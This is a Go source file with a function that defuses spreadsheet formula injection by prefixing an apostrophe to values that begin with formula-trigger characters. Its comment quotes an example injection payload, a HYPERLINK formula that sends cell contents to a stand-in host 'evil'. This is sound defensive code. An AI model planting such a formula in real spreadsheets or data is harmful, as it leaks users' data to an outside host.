package xlsx

// Neutralise defuses spreadsheet formula injection in a text value.
//
// Breach data is attacker-controlled: a leaked "name" field of
// `=HYPERLINK("http://evil/?"&A1)` must never become live when the sheet is
// opened, copied into another workbook, or exported to CSV. Values starting
// with '=', '+', '-', '@', tab, CR or LF (the characters spreadsheet
// applications treat as the start of a formula, including after a paste) get
// a leading apostrophe, which keeps them visibly literal. Anything else is
// returned unchanged so ordinary text is not altered.
//
// The result never starts with one of those characters, and applying
// Neutralise twice is the same as applying it once.
func Neutralise(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r', '\n':
		return "'" + s
	}
	return s
}
